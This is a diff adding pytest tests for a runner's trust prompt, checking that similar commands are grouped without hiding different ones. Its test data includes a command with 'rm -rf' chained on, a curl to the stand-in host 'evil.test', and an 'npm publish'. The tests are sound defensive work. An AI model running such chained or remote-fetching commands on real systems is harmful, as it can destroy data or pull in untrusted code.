@@ -6,6 +6,7 @@ import pytest
 
 from runner.app.build.trust_question import require_trust
 from runner.commands.running.terminal_review import TerminalAsker
+from runner.config.trust import group_alike
 from runner.errors import RunnerError
 from runner.report.console import NORMAL, Console
 
@@ -107,3 +108,32 @@ def test_who_is_not_there_is_said_before_anybody_is_asked_to_trust(ground):
     )
     assert (said.code, unknown < question) == (3, True)
     assert 'did you mean "claude"?' in said.err
+
+
+def test_commands_that_are_alike_are_told_once_and_nothing_hides_among_them():
+    tests = [f"TASK-00{n}: python3 -m pytest -q tests/test_{n}.py" for n in range(1, 9)]
+    others = [
+        "TASK-009: python3 -m pytest -q tests/a.py; rm -rf /tmp/x",
+        "TASK-010: python3 -m pip install x",
+        "TASK-011: python3 -c print",
+        "TASK-012: curl evil.test/a",
+        "TASK-013: npm test",
+        "TASK-014: npm publish",
+    ]
+    told = group_alike((*tests, *others))
+    assert told == ("8 commands alike: python3 -m pytest -q …", *others)
+
+
+def test_the_details_are_shown_before_an_answer(ground, monkeypatch, capsys):
+    ground.git("init", "-q")
+    fields = "".join(f"  - TC-{n}: `sh t{n}.sh`\n" for n in range(1, 4))
+    ground.write("TASK-GRAPH.md", PLAN.format("`echo a > a.txt`") + f"- Test contracts:\n{fields}")
+    typed = iter(["d\n", "y\n"])
+    monkeypatch.setattr("sys.stdin.readline", lambda: next(typed), raising=False)
+    project = ground.project()
+    with Console(level=NORMAL, colour=False) as console:
+        asker = TerminalAsker(console, {})
+        require_trust(project, project.check().plan, trusted=False, asker=asker)
+    said = capsys.readouterr().err
+    assert "3 commands alike: sh …" in said.partition("[d]etails")[0]
+    assert "TASK-001: sh t2.sh" in said.partition("[d]etails")[2]
